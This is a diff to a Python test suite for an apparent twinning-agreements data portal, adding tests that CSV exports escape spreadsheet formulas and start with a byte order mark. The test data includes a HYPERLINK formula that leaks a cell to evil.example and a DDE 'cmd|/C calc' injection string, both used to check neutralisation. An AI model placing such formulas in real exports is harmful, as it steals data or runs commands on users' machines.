@@ -4,7 +4,7 @@ import io
 import json
 
 import yaml
-from helpers import ROOT
+from helpers import FIXTURES, ROOT
 
 from macros import model
 from macros.cli import main as portal
@@ -34,7 +34,7 @@ def test_full_json_holds_every_record_and_each_record_has_its_own_file(portal):
 
 
 def test_downloads_are_published_with_the_site(real_site):
-    assert (real_site / "data" / "agreements.csv").read_text(encoding="utf-8").startswith("district,id,")
+    assert (real_site / "data" / "agreements.csv").read_text(encoding="utf-8").startswith("\ufeffdistrict,id,")
     assert json.loads((real_site / "data" / "agreements" / "adalar-nacka.json").read_text())["country"] == "SE"
     assert (real_site / "data" / "schema" / "district.schema.json").exists()
     assert 'href="agreements.csv"' in (real_site / "data" / "index.html").read_text(encoding="utf-8")
@@ -71,3 +71,56 @@ def test_portal_validate_exits_zero_on_good_data_and_one_on_bad(tmp_path, capsys
     out = capsys.readouterr()
     assert "data/districts/adalar.yaml" in out.err and "'XX' is not a known country code" in out.err
     assert "::error file=data/districts/adalar.yaml,line=" in out.out
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Nacka")'
+
+
+def _index_with_partner(tmp_path, as_written: str, note: str) -> PortalIndex:
+    import shutil
+
+    from macros.portal import load_portal
+    data = tmp_path / "data"
+    shutil.copytree(FIXTURES / "minimal", data)
+    path = data / "districts" / "kadikoy.yaml"
+    text = path.read_text(encoding="utf-8").replace("as_written: Nacka", f"as_written: {json.dumps(as_written)}")
+    path.write_text(text.replace("    kind: sister_city\n", f"    kind: sister_city\n    note: {json.dumps(note)}\n"),
+                    encoding="utf-8")
+    return PortalIndex(load_portal(data))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
+    """OWASP's rule for CSV injection: = + - @ tab and CR at the start of a cell are neutralised."""
+    index = _index_with_partner(tmp_path, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0")
+    files = export_files(index)
+    row = next(r for r in csv.DictReader(io.StringIO(files["agreements.csv"].lstrip("\ufeff")))
+               if r["id"] == "kadikoy-nacka")
+    assert row["partner.as_written"] == "'" + FORMULA
+    assert row["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["country"] == "SE" and row["partner.name"] == "Nacka"  # ordinary cells unchanged
+    from macros.export import _inert
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert _inert(f"{start}1") == f"'{start}1"
+    # The JSON keeps the data as written.
+    record = json.loads(files["agreements/kadikoy-nacka.json"])
+    assert record["partner"]["as_written"] == FORMULA
+    assert json.loads(files["portal.json"])["districts"][1]["agreements"][0]["note"].startswith("@SUM")
+
+
+def test_csv_files_start_with_a_utf8_byte_order_mark_for_excel(tmp_path, portal):
+    """Without it Excel in a Turkish locale reads UTF-8 as Windows-1254 and garbles "Bağcılar"."""
+    files = export_files(PortalIndex(portal))
+    for kind in model.RECORD_KINDS:
+        raw = files[f"{kind}.csv"].encode("utf-8")
+        assert raw.startswith(b"\xef\xbb\xbf" + b"district,id,"), kind
+        assert raw.count(b"\xef\xbb\xbf") == 1
+    assert not files["portal.json"].startswith("\ufeff")
+    written = tmp_path / "export"
+    assert portal_cli_export(written) == 0
+    assert (written / "agreements.csv").read_bytes().startswith(b"\xef\xbb\xbfdistrict,")
+    assert "Bağcılar" in (written / "activities.csv").read_text(encoding="utf-8-sig") or \
+        "Bağcılar" in (written / "portal.json").read_text(encoding="utf-8")
+
+
+def portal_cli_export(out) -> int:
+    return portal(["--data", str(ROOT / "data"), "export", "--out", str(out)])
